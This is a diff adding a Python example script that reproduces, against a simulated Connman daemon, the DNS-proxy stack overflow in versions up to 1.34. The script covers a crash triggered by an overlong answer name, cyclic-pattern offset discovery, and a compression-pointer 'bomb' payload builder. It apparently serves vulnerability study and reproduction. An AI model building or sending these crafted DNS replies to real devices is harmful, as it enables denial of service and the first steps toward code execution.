@@ -1,0 +1,75 @@
+#!/usr/bin/env python3
+"""The minimal attack: denial of service against Connman's DNS proxy.
+
+An attacker-controlled DNS server answers a forwarded query with a Type A
+record whose *name* expands past the 1024-byte `name` stack buffer.  On
+Connman <= 1.34 the daemon corrupts its stack and crashes (the device loses
+DNS); on 1.35 the patched bounds check drops the packet.
+
+This example also shows the cyclic-pattern offset discovery the exploits
+build on, and a compression-pointer "bomb" variant of the crash.
+
+Run:  python examples/dos_crash.py
+"""
+
+from repro.connman import ConnmanDaemon, EventKind
+from repro.core import naive_overflow_blob
+from repro.defenses import WX_ASLR
+from repro.dns import build_raw_response, encode_pointer, make_query
+from repro.exploit import Debugger
+
+
+def pointer_bomb_blob() -> bytes:
+    """A tiny packet whose name re-visits a 63-byte label via pointers.
+
+    Each pointer jump re-expands labels without adding packet bytes —
+    compression as an amplification primitive.
+    """
+    # Offset 12 is where the name starts in our raw answer (right after the
+    # DNS header) when the question section is empty.
+    blob = bytearray()
+    blob.append(63)
+    blob += b"B" * 63
+    # Chain of pointers back to the label start: the victim's jump budget
+    # (128) re-expands it until the stack segment ends.
+    for _ in range(40):
+        blob += encode_pointer(12)
+    return bytes(blob)
+
+
+def main() -> None:
+    print(__doc__)
+
+    for arch in ("x86", "arm"):
+        for version in ("1.34", "1.35"):
+            daemon = ConnmanDaemon(arch=arch, version=version, profile=WX_ASLR)
+            query = make_query(0xD05, "firmware-update.example")
+            reply = build_raw_response(query, naive_overflow_blob())
+            event = daemon.handle_upstream_reply(reply, expected_id=0xD05)
+            state = "daemon still running" if daemon.alive else "daemon DOWN"
+            print(f"  connman {version} on {arch:<4}: {event.describe()[:58]:<60} [{state}]")
+    print()
+
+    print("Offset discovery (the gdb step, automated):")
+    daemon = ConnmanDaemon(arch="x86", version="1.34")
+    debugger = Debugger(daemon)
+    offset = debugger.find_ret_offset()
+    print(f"  cyclic-pattern crash puts the saved return address at name+{offset}")
+    print(f"  (frame model says name+{daemon.frame.ret_offset})")
+    print()
+
+    print("Pointer-amplified crash (compression bomb):")
+    daemon = ConnmanDaemon(arch="arm", version="1.34", profile=WX_ASLR)
+    query = make_query(0xB0B, "cdn.example")
+    # The bomb's pointers refer to offset 12 of the *answer name region*;
+    # build a response with no question so the name really is at offset 12.
+    from repro.dns import Message, Flags
+    bare_query = Message(id=0xB0B, flags=Flags(qr=False))
+    reply = build_raw_response(bare_query, pointer_bomb_blob())
+    event = daemon.handle_upstream_reply(reply, expected_id=0xB0B)
+    print(f"  {len(pointer_bomb_blob())}-byte name field -> {event.describe()[:70]}")
+    assert event.kind is EventKind.CRASHED
+
+
+if __name__ == "__main__":
+    main()
